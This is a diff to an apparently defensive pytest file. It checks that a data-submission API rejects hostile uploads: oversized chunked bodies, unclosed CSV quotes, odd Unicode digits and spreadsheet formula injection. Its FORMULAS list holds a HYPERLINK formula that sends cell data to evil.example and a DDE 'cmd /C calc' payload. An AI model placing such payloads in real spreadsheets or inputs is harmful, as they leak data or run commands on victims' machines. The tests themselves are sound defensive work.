@@ -1,8 +1,10 @@
 """Hostile uploads through POST /api/submissions: each gets a clear 4xx JSON error and nothing is stored.
 
-XXE, billion laughs, external DTDs (SDMX-ML), bodies far above the size limit, compressed bodies, invalid UTF-8,
-spreadsheet formula cells (CSV), file: IRIs and remote JSON-LD contexts (RDF). A local HTTP listener proves that
-nothing is fetched: it must never see a request.
+XXE, billion laughs, external DTDs (SDMX-ML), bodies far above the size limit (declared, lying or chunked),
+compressed bodies, invalid UTF-8, spreadsheet formula cells (CSV) and metadata, an unclosed quote (CSV), source
+rows in other digits, file: IRIs and remote JSON-LD contexts (RDF); and the Link header of /api/observations,
+which repeats only checked parameters. A local HTTP listener proves that nothing is fetched: it must never see a
+request. The uploads that crashed or exhausted the server process are in ``test_hostile_live.py``.
 """
 
 from __future__ import annotations
@@ -18,9 +20,12 @@ from pathlib import Path
 import httpx
 import pytest
 from fastapi.testclient import TestClient
-from pyoxigraph import RdfFormat
+from pyoxigraph import Literal, RdfFormat, Triple, serialize
 
+from api import vocab
 from api.errors import InputFileError
+from api.formats.csv_template import read_csv_bytes
+from api.formats.cube_rdf import records_to_triples
 from api.formats.rdf_input import read_rdf_bytes
 from api.services.registry import Registry
 from api.validation.cell_checks import FORMULA_RULE, formula_cells, is_formula
@@ -346,3 +351,129 @@ def test_remote_json_ld_contexts_are_never_fetched(world: World, registry: Regis
     assert "never fetches anything" in answer.json()["error"]["message"]
     assert hits == []
     _assert_nothing_stored(client, registry)
+
+
+def cube_turtle(rows: list[str], source_row: str | None = None) -> bytes:
+    """A submission as the RDF cube the registry itself writes (Turtle), optionally with one mp:sourceRow text."""
+    records = read_csv_bytes(("\n".join([HEADER, *rows]) + "\n").encode(), "rows.csv").records
+    triples = list(records_to_triples(records, vocab.InstanceIris("http://registry.test"), "upload"))
+    if source_row is not None:
+        triples = [Triple(t.subject, t.predicate, Literal(source_row)) if t.predicate.value == vocab.MP + "sourceRow"
+                   else t for t in triples]
+    return serialize(triples, format=RdfFormat.TURTLE)
+
+
+@pytest.mark.parametrize("text", ["²", "٣", "1" * 5000])
+def test_a_source_row_of_other_digits_is_an_answer_not_a_500(world: World, registry: Registry, text: str) -> None:
+    client, tokens = world
+    answer = _post_raw(client, tokens["DESTATIS"], cube_turtle([row("DEU", "2020", "100")], text), "text/turtle")
+    assert answer.status_code in (201, 422), answer.text
+    control = _post_raw(client, tokens["DESTATIS"], cube_turtle([row("DEU", "2021", "100")]), "text/turtle",
+                        **{"If-Match": "*"} if answer.status_code == 201 else {})
+    assert control.status_code == 201, control.text
+
+
+def test_an_unclosed_quote_swallows_no_row_unseen(world: World, registry: Registry) -> None:
+    client, tokens = world
+    unclosed = row("DEU", "2020", "100").removesuffix(",") + '"never closed'  # COMMENT opens a quote
+    body = ("\n".join([HEADER, row("DEU", "2019", "90"), unclosed, row("DEU", "2021", "110")]) + "\n").encode()
+    answer = _post_raw(client, tokens["DESTATIS"], body, "text/csv")
+    assert answer.status_code == 422, answer.text
+    results = answer.json()["error"]["details"]["report"]["results"]
+    violations = [(r["rule"], r["row"], r["column"]) for r in results if r["severity"] == "Violation"]
+    assert violations == [("malformed-row", 3, "COMMENT")]
+    assert "a quote (\") is not closed" in results[0]["message"]
+    _assert_nothing_stored(client, registry)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1"]
+
+
+@pytest.mark.parametrize("field", ["title", "source", "methodology", "definition_basis"])
+@pytest.mark.parametrize("how", ["multipart", "query", "dry-run"])
+def test_formula_metadata_is_refused_like_formula_cells(world: World, registry: Registry, field: str,
+                                                         how: str) -> None:
+    client, tokens = world
+    body = ("\n".join([HEADER, row("DEU", "2020", "100")]) + "\n").encode()
+    for value in FORMULAS:
+        fields = {"dataset": "DEU_STOCK", "source": "Census", field: value}
+        if how == "multipart":
+            answer = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]), data=fields,
+                                 files={"file": ("s.csv", body, "text/csv")})
+        else:
+            answer = client.post("/api/submissions", content=body, params={
+                **fields, **({"dry_run": "true"} if how == "dry-run" else {})},
+                headers={**_auth(tokens["DESTATIS"]), "Content-Type": "text/csv"})
+        assert answer.status_code == 400, (value, answer.text)
+        error = answer.json()["error"]
+        assert error["message"].startswith(f"{field}=") and "spreadsheet formula injection" in error["message"]
+        assert error["details"] == {"field": field, "rule": FORMULA_RULE}
+    _assert_nothing_stored(client, registry)
+    fine = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]), files={"file": ("s.csv", body)},
+                       data={"dataset": "DEU_STOCK", "source": "Census", field: "Census 2022 (a = b; -5 inside)"})
+    assert fine.status_code == 201, fine.text
+
+
+def test_the_link_header_repeats_only_checked_parameters(world: World, registry: Registry) -> None:
+    client, _ = world
+    for bad in ("x" * 5000, "DEU STOCK", "<script>", "a\u00b2", "\u0414"):
+        answer = client.get("/api/observations", params={"dataset": bad})
+        assert answer.status_code == 400, answer.text
+        assert "is not a dataset id" in answer.json()["error"]["message"] and "Link" not in answer.headers
+    answer = client.get("/api/observations", params={"dataset": "DEU_STOCK", "per_page": 5, "lang": "fr;q=1" * 300,
+                                                      "zzz": "y" * 3000})
+    assert answer.status_code == 200, answer.text
+    link = answer.headers["link"]
+    assert "dataset=DEU_STOCK" in link and "per_page=5" in link and "lang=fr" in link
+    assert "zzz" not in link and "q%3D1" not in link and len(link) < 1000
+
+
+@pytest.mark.parametrize("value", ["\u00b2", "\u0663", "1" * 30])
+def test_a_base_version_of_other_digits_is_a_400(world: World, registry: Registry, value: str) -> None:
+    client, tokens = world
+    body = ("\n".join([HEADER, row("DEU", "2020", "100")]) + "\n").encode()
+    answer = client.post("/api/submissions", headers=_auth(tokens["DESTATIS"]), files={"file": ("s.csv", body)},
+                         data={"dataset": "DEU_STOCK", "source": "x", "base_version": value})
+    assert answer.status_code == 400 and "is not a version number" in answer.json()["error"]["message"]
+
+
+def _chunks(total: int, head: bytes = b"", tail: bytes = b"") -> Iterator[bytes]:
+    yield head
+    chunk = b"x" * (256 * 1024)
+    for _ in range(total // len(chunk)):
+        yield chunk
+    yield tail
+
+
+@pytest.mark.parametrize("how", ["raw", "multipart"])
+@pytest.mark.parametrize("length", [None, "100"], ids=["chunked", "chunked with a lying Content-Length"])
+def test_a_chunked_body_is_counted_and_stopped_at_the_limit(
+        world: World, registry: Registry, how: str, length: str | None, monkeypatch: pytest.MonkeyPatch) -> None:
+    client, tokens = world
+    monkeypatch.setattr(registry, "settings", replace(registry.settings, max_upload_bytes=1024 * 1024))
+    headers = {**_auth(tokens["DESTATIS"]), "Content-Type": "text/csv"}
+    head, tail = b"", b""
+    if how == "multipart":
+        headers["Content-Type"] = "multipart/form-data; boundary=b0undary"
+        head = (b'--b0undary\r\nContent-Disposition: form-data; name="dataset"\r\n\r\nDEU_STOCK\r\n--b0undary\r\n'
+                b'Content-Disposition: form-data; name="file"; filename="s.csv"\r\nContent-Type: text/csv\r\n\r\n')
+        tail = b"\r\n--b0undary--\r\n"
+    if length is not None:
+        headers["Content-Length"] = length
+    answer = client.post("/api/submissions", params={"dataset": "DEU_STOCK"}, headers=headers,
+                         content=_chunks(64 * 1024 * 1024, head, tail))
+    assert answer.status_code == 413, answer.text
+    error = answer.json()["error"]
+    assert error["code"] == "too_large" and "more than 1,048,576 bytes (counted as it arrived)" in error["message"]
+    # (the test client drains the rest of the body after the answer; the server's memory while a real client
+    # sends is measured in test_hostile_live.py)
+    _assert_nothing_stored(client, registry)
+
+
+@pytest.mark.parametrize("value", ["\u00b2", "\u0663", "9" * 5000])
+def test_an_observation_count_of_other_digits_is_a_400(world: World, value: str) -> None:
+    client, _ = world
+    answer = client.get("/sdmx/v1/data/MIGRATION_PROFILE", params={"lastNObservations": value},
+                        headers={"Accept": "application/json"})
+    assert answer.status_code == 400, answer.text
+    assert "must be a positive integer" in answer.text and len(answer.text) < 2000
